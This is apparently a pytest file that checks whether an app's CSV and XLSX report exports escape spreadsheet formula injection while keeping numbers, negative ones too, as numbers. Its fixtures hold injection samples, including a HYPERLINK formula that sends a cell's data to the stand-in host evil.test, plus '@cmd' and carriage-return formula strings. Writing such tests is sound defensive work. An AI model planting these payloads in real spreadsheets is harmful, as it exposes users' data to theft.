"""Every export (each report, CSV and XLSX, in the request and as a job) writes text that a
spreadsheet program would take for a formula as text, and numbers, negative ones too, as
numbers (issue 28, finding 1)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.core.models import Division
from app.core.tenancy import activate
from app.extensions import db
from app.market.models import InstanceGroup
from app.preparation.models import PreparationItem
from app.preparation.services import add_item
from tests.admin.test_more_screens import ADMIN
from tests.factories import make_instance, make_user
from tests.helpers import sign_in
from tests.market._common import make_advert

LINK = '=HYPERLINK("http://evil.test/?x="&A1;"Click")'
# column → (what the row holds, how the exported cell must read)
VEHICLE = {
    "brand": (LINK, LINK),
    "model": ("+SUM(1;2)", "+SUM(1;2)"),
    "vin": ("@cmd", "@cmd"),
    "purchase_price": (Decimal("-1500.00"), -1500),  # a number stays a number
    "sales_price": (Decimal("99900.00"), 99900),
}
ADVERT = {
    "brand": ("-2+3", "-2+3"),
    "model": ("\t=1+1", "\t=1+1"),
    "regno": ("\r=cmd", "\r=cmd"),
    "start_price": (-100, -100),  # a number stays a number
    "highest_bid": (5000, 5000),
}


def _make(report: str, instance) -> dict:
    activate(instance.id)
    if report == "vehicles":
        division = db.session.scalars(select(Division)).first()
        values = {name: value for name, (value, _cell) in VEHICLE.items()}
        add_item(
            PreparationItem(
                instance_id=instance.id, module="begcare", division_id=division.id, state=2,
                regno="ABC123", **values,
            )
        )  # fmt: skip
        return VEHICLE
    group = InstanceGroup(name="Seller AB", seller=True, currency="SEK", country_code="SE")
    db.session.add(group)
    db.session.flush()
    make_advert(group, **{name: value for name, (value, _cell) in ADVERT.items()})
    return ADVERT


def _download(client, monkeypatch, report: str, fmt: str, via_job: bool) -> bytes:
    from app.admin import reports

    if via_job:
        monkeypatch.setattr(reports, "JOB_THRESHOLD", 0)
    today = date.today().isoformat()
    response = client.get(
        f"/admin/general/reports?report={report}&start={today}&end={today}&format={fmt}"
    )
    if via_job:
        assert response.status_code == 302
        response = client.get(f"{response.headers['Location']}/download")
    assert response.status_code == 200
    return response.data


@pytest.mark.parametrize("via_job", [False, True], ids=["request", "job"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["vehicles", "adverts"])
def test_formula_text_is_exported_as_text_and_numbers_as_numbers(
    client, monkeypatch, report, fmt, via_job
):
    instance = make_instance()
    admin = make_user(instance, roles=ADMIN, all_divisions=True)
    expected = _make(report, instance)
    activate(None)
    sign_in(client, admin)
    data = _download(client, monkeypatch, report, fmt, via_job)

    if fmt == "csv":
        text = data.decode("utf-8-sig")
        header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        cells = dict(zip(header, row, strict=True))
        for name, (_value, shown) in expected.items():
            if isinstance(shown, str):  # the program shows it without the apostrophe
                assert cells[name] == f"'{shown}", name
            else:
                assert Decimal(cells[name]) == shown, name
        assert not cells["id"].startswith("'")
        return
    sheet = load_workbook(io.BytesIO(data)).active
    header, row = list(sheet.iter_rows(max_row=2))
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    for name, (_value, shown) in expected.items():
        cell = cells[name]
        if isinstance(shown, str):
            shown = shown.replace("\r", "\n")  # XML reads a carriage return as a line feed
            assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", shown, True), name
        else:
            assert (cell.data_type, cell.value) == ("n", shown), name
    assert (
        cells["id"].data_type == "n"
        and not cells["regno" if report == "vehicles" else "currency"].quotePrefix
    )
